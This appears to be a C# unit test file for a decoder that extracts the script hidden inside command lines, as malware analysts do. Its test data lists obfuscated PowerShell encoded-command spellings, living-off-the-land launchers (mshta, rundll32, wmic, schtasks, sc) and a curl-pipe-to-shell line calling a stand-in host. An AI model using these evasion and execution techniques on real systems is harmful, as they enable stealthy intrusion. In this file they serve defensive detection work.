using System.Text;

namespace Stemma.Decoding.Tests.CommandLines;

/// <summary>What the program of a command line would run.</summary>
public sealed class CommandLineTests
{
    private const string Script = "Write-Host 'x'; $a = 1";

    private static readonly string Encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(Script));

    [Theory]
    [InlineData("powershell -enc {0}")]
    [InlineData("powershell;,; -enc {0}")]
    [InlineData("powershell.exe -e {0}")]
    [InlineData("pwsh -EncodedCommand {0}")]
    [InlineData("powershell /enc {0}")]
    [InlineData("powershell \u2013enc {0}")]
    [InlineData("powershell \u2014ec \"{0}\"")]
    [InlineData("\"powershell\" \"-enc\" '{0}'")]
    [InlineData("powershell -EncodedCommand:{0}")]
    [InlineData("p^ow^ershell -NoP -w hidden -ep bypass -en {0}")]
    [InlineData("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -enc {0} -NoExit")]
    [InlineData("C:\\Program Files\\PowerShell\\7\\pwsh.exe -enc {0}")]
    [InlineData("\"\\\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\\\" -window hidden -enc {0}\",")]
    [InlineData("\"powershell -nop -enc {0}\",")]
    [InlineData("powershell {0}")]
    public void An_encoded_command_comes_out_however_it_is_spelled(string line)
    {
        Layer layer = Single(string.Format(null, line, Encoded));
        Assert.Equal((ScriptKind.PowerShell, Script), (layer.Kind, layer.Text));
    }

    [Theory]
    [InlineData("powershell -nop -Command \"Write-Host 'a b'\"", ScriptKind.PowerShell, "Write-Host 'a b'")]
    [InlineData("powershell -c & {Get-Date}", ScriptKind.PowerShell, "& {Get-Date}")]
    [InlineData("POwerShell -NoNIntErACti  -nol   \"Write-Host \\\"x\\\"\"", ScriptKind.PowerShell, "Write-Host \"x\"")]
    [InlineData("cmd/C\"echo hi & dir\"", ScriptKind.Cmd, "echo hi & dir")]
    [InlineData("C:\\Windows\\system32\\cmd.exe /v:on /d /c set a=b", ScriptKind.Cmd, "set a=b")]
    [InlineData("c:\\windows\\WmIc  \"pROCeSs\"   CALL   'cReaTe'   \"powershell -nop Get-Date\"", ScriptKind.CommandLine, "powershell -nop Get-Date")]
    [InlineData("wmic /node:10.0.0.1 process call create \"cmd /c calc\"", ScriptKind.CommandLine, "cmd /c calc")]
    [InlineData("RuNdll32   SHELL32.DLL,,, ShellExec_RunDLL   \"powershell\" \"-NOLoG  \" \"Get-Date\"", ScriptKind.CommandLine, "\"powershell\" \"-NOLoG  \" \"Get-Date\"")]
    [InlineData("rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", ScriptKind.JavaScript, "\\..\\mshtml,RunHTMLApplication \";alert(1)")]
    [InlineData("mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"calc\")(window.close)", ScriptKind.VisualBasic, "CreateObject(\"WScript.Shell\").Run(\"calc\")(window.close)")]
    [InlineData("mshta \"javascript:close()\"", ScriptKind.JavaScript, "close()")]
    [InlineData("forfiles /p c:\\windows /m notepad.exe /c \"cmd /c calc\"", ScriptKind.CommandLine, "cmd /c calc")]
    [InlineData("schtasks /create /sc minute /tn x /tr \"powershell -w hidden Get-Date\"", ScriptKind.CommandLine, "powershell -w hidden Get-Date")]
    [InlineData("sc create x binPath= \"cmd /c calc\" start= auto", ScriptKind.CommandLine, "cmd /c calc")]
    [InlineData("pcalua -a powershell.exe -c -nop Get-Date", ScriptKind.CommandLine, "powershell.exe -nop Get-Date")]
    [InlineData("conhost --headless cmd /c calc", ScriptKind.CommandLine, "cmd /c calc")]
    [InlineData("/bin/sh -c 'id; uname -a'", ScriptKind.Shell, "id; uname -a")]
    [InlineData("bash -lc \"id\"", ScriptKind.Shell, "id")]
    [InlineData("/usr/bin/bash -c curl http://x.example/ | sh", ScriptKind.Shell, "curl http://x.example/ | sh")]
    [InlineData("/usr/bin/python3 -c 'import os'", ScriptKind.Python, "import os")]
    [InlineData("/usr/bin/osascript -e 'tell application \"Finder\"' -e 'end tell'", ScriptKind.AppleScript, "tell application \"Finder\"\nend tell")]
    [InlineData("/usr/bin/env -i node -e 'eval(1)'", ScriptKind.CommandLine, "node -e 'eval(1)'")]
    public void What_the_program_would_run_is_a_layer(string line, ScriptKind kind, string text)
    {
        Layer layer = Single(line);
        Assert.Equal((kind, text), (layer.Kind, layer.Text));
    }

    [Theory]
    [InlineData("C:\\Windows\\System32\\svchost.exe -k netsvcs -p")]
    [InlineData("powershell -File C:\\scripts\\backup.ps1 -enc x")]
    [InlineData("powershell -NoLogo -NoProfile")]
    [InlineData("cmd.exe")]
    [InlineData("/usr/bin/python3 /opt/app/main.py -c config")]
    [InlineData("\"C:\\Program Files\\App\\app.exe\"")]
    [InlineData("")]
    public void A_command_line_that_holds_no_script_has_no_layer(string line) =>
        Assert.Single(Decoder.Decode(line, ScriptKind.CommandLine).Layers);

    [Fact]
    public void Encoded_commands_of_real_incidents_come_out()
    {
        string path = Shared.EncodedCommands();
        int rows = 0, decoded = 0;
        foreach ((string command, string expected) in Shared.ReadZippedPairs(path, "command", "decoded"))
        {
            rows++;
            string wanted = NormalForm.Of(expected);
            DecodedArtifact artifact = Decoder.Decode(command, ScriptKind.Auto, new DecodeLimits { Depth = 3 });
            if (artifact.Layers.Any(l => NormalForm.Of(l.Text).Contains(wanted[..Math.Min(400, wanted.Length)], StringComparison.Ordinal))) { decoded++; }
            else { TestContext.Current.TestOutputHelper?.WriteLine($"#### {wanted[..Math.Min(100, wanted.Length)]}: {string.Join(" ~~ ", artifact.Layers.Select(l => l.Text.Length > 150 ? l.Text[..150] : l.Text))}"); }
        }
        Assert.True(decoded >= 0.998 * rows, $"{decoded} of {rows}");
    }

    private static Layer Single(string line)
    {
        DecodedArtifact artifact = Decoder.Decode(line, ScriptKind.CommandLine);
        return artifact.Layers.First(l => l.Parent == 0);
    }
}
